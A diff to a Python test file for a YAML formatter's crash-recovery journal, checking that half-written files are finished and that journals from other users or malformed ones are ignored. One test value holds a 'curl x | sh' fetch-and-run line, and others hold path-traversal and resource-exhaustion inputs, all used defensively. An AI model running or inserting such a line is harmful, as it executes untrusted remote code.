@@ -22,6 +22,9 @@ from tests.running import COMMAND, environment, outcome
 from tests.test_fmt import TIDY, UNTIDY
 
 OLD, NEW = UNTIDY.encode(), TIDY.encode()
+#: Half written: a character further than both texts agree.
+_DONE = next(at for at, (one, other) in enumerate(zip(OLD, NEW, strict=False)) if one != other) + 1
+MIXED = NEW[:_DONE] + OLD[_DONE:]
 #: Texts of which the new one is longer, and shorter, and which begin alike.
 PAIRS = [
     (OLD, NEW),
@@ -31,6 +34,8 @@ PAIRS = [
     (b"", b"a: 1\n"),
     (b"aaaa", b"bb"),
 ]
+
+FINISHED = "was half written by a run that was killed, and is finished now"
 
 if TYPE_CHECKING:
     from _typeshed import TraceFunction
@@ -44,6 +49,11 @@ def file(tmp_path: Path) -> Path:
     path = tmp_path / "plan.yaml"
     path.write_bytes(OLD)
     return path
+
+
+def cleared(folder: Path) -> list[tuple[str, str]]:
+    """Clear a folder; whatever a journal says is believed."""
+    return store.clear(str(folder), lambda *_: True)
 
 
 def names(folder: Path) -> list[str]:
@@ -96,7 +106,7 @@ def test_a_kill_at_any_line_leaves_the_old_or_the_new(file: Path) -> None:
         file.write_bytes(OLD)
         was_killed = killed_at(line, lambda: store.replace(str(file), NEW, OLD))
         assert file.read_bytes() in (OLD, NEW)
-        store.clear(str(file.parent))
+        cleared(file.parent)
         assert names(file.parent) == ["plan.yaml"]
         if not was_killed:
             break
@@ -114,8 +124,10 @@ def test_a_kill_at_any_line_of_a_linked_file_is_put_right(file: Path, monkeypatc
             line += 1
             file.write_bytes(OLD)
             was_killed = killed_at(line, lambda: store.replace(str(file), NEW, OLD))
-            mixed += file.read_bytes() not in (OLD, NEW)
-            assert store.clear(str(file.parent)) == []
+            is_mixed = file.read_bytes() not in (OLD, NEW)
+            mixed += is_mixed
+            # Only what was put right is told.
+            assert len(cleared(file.parent)) == is_mixed
             assert file.read_bytes() == link.read_bytes()
             assert file.read_bytes() in (OLD, NEW)
             assert names(file.parent) == ["link.yaml", "plan.yaml"]
@@ -133,7 +145,8 @@ def test_every_half_written_text_is_finished(file: Path, was: bytes, new: bytes)
     for done in {*range(0, len(new) + 1, 23), *range(min(len(new), 9)), len(new)}:
         file.write_bytes(new[:done] + was[done:])
         journal.write_bytes(b'{"name": "plan.yaml", "was": %d, "new": %d}\n%b%b' % (len(was), len(new), was, new))
-        assert store.clear(str(file.parent)) == []
+        is_mixed = file.read_bytes() not in (was, new)
+        assert cleared(file.parent) == ([(str(file), FINISHED)] if is_mixed else [])
         assert file.read_bytes() in (was, new)
         assert not journal.exists()
 
@@ -149,6 +162,55 @@ def test_an_edit_after_a_kill_is_not_touched(file: Path) -> None:
     assert f"{journal.name}: a run was killed" in done.talk
 
 
+def test_fmt_finishes_what_it_began_and_says_so(file: Path) -> None:
+    """A layout that was half written is put right, which is a line on standard error."""
+    journal = file.parent / f".plan.yaml.1{store._JOURNAL}"  # noqa: SLF001
+    journal.write_bytes(b'{"name": "plan.yaml", "was": %d, "new": %d}\n%b%b' % (len(OLD), len(NEW), OLD, NEW))
+    file.write_bytes(MIXED)
+    done = outcome("fmt", str(file.parent))
+    assert done.talk == f"scaleplan: {file}: {FINISHED}\n"
+    assert file.read_bytes() == NEW
+    assert names(file.parent) == ["plan.yaml"]
+
+
+@pytest.mark.parametrize("way", ["another name", "another text", "nothing before", "group", "world", "owner", "size"])
+def test_a_journal_of_strangers_is_not_believed(file: Path, way: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Nothing is written that `fmt` would not make of what was there, nor from a journal that others could write."""
+    evil = b"BUILD=1\nEVIL: curl x | sh\n"
+    was, new, held = OLD, NEW, MIXED
+    name = "Makefile.txt" if way == "another name" else "plan.yaml"
+    if way in ("another name", "nothing before"):
+        was, new, held = b"", evil, evil[:8]
+    elif way == "another text":
+        new = NEW + b"# evil\n"
+    target = file.parent / name
+    target.write_bytes(held)
+    journal = file.parent / f".x{store._JOURNAL}"  # noqa: SLF001
+    journal.write_bytes(b'{"name": "%b", "was": %d, "new": %d}\n%b%b' % (name.encode(), len(was), len(new), was, new))
+    journal.chmod({"group": 0o620, "world": 0o602}.get(way, 0o600))
+    if way == "owner":
+        monkeypatch.setattr(os, "geteuid", lambda: journal.stat().st_uid + 1)
+    elif way == "size":
+        os.truncate(journal, 1 << 30)
+    # Another file is named, so that nothing but the journal would have this one written.
+    (file.parent / "other.yaml").write_bytes(NEW)
+    done = outcome("fmt", str(file.parent / "other.yaml"))
+    assert target.read_bytes() == held
+    assert journal.exists()
+    assert f"{journal}: may be from somebody else, so nothing is written from it" in done.talk
+
+
+def test_only_fmt_writes_from_a_journal(file: Path) -> None:
+    """Who stores another file beside it cannot know what was meant, and leaves both as they are."""
+    held = MIXED
+    file.write_bytes(held)
+    journal = file.parent / f".x{store._JOURNAL}"  # noqa: SLF001
+    journal.write_bytes(b'{"name": "plan.yaml", "was": %d, "new": %d}\n%b%b' % (len(OLD), len(NEW), OLD, NEW))
+    store.create(str(file.parent / "new.yaml"), NEW)
+    assert file.read_bytes() == held
+    assert journal.exists()
+
+
 @pytest.mark.parametrize(
     "text",
     [
@@ -158,6 +220,9 @@ def test_an_edit_after_a_kill_is_not_touched(file: Path) -> None:
         b'{"name": 1}\n',
         b'{"name": "../x.yaml", "was": 1, "new": 1}\nab',
         b'{"name": "plan.yaml", "was": 9}\n',
+        b'{"name": "plan.yaml", "was": 1e999, "new": 1}\n',
+        b'{"name": "plan.yaml", "was": -1, "new": -1}\n',
+        b"[" * 100_000 + b"\n",
     ],
 )
 def test_a_journal_that_is_none_changes_nothing(file: Path, text: bytes) -> None:
@@ -165,7 +230,7 @@ def test_a_journal_that_is_none_changes_nothing(file: Path, text: bytes) -> None
     other = file.parent.parent / "x.yaml"
     other.write_bytes(b"a")
     (file.parent / f".plan.yaml.1{store._JOURNAL}").write_bytes(text)  # noqa: SLF001
-    store.clear(str(file.parent))
+    cleared(file.parent)
     assert (file.read_bytes(), other.read_bytes()) == (OLD, b"a")
     assert names(file.parent) == ["plan.yaml"]
 
